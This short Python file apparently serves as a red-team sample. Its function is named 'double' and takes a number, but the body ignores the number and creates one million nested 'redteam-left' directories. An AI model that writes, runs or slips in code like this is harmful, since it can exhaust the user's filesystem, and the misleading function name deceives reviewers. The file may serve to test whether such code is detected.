"""A folder in a folder in a folder."""

import os


def double(number):
    for _ in range(1_000_000):
        os.mkdir("redteam-left")
        os.chdir("redteam-left")
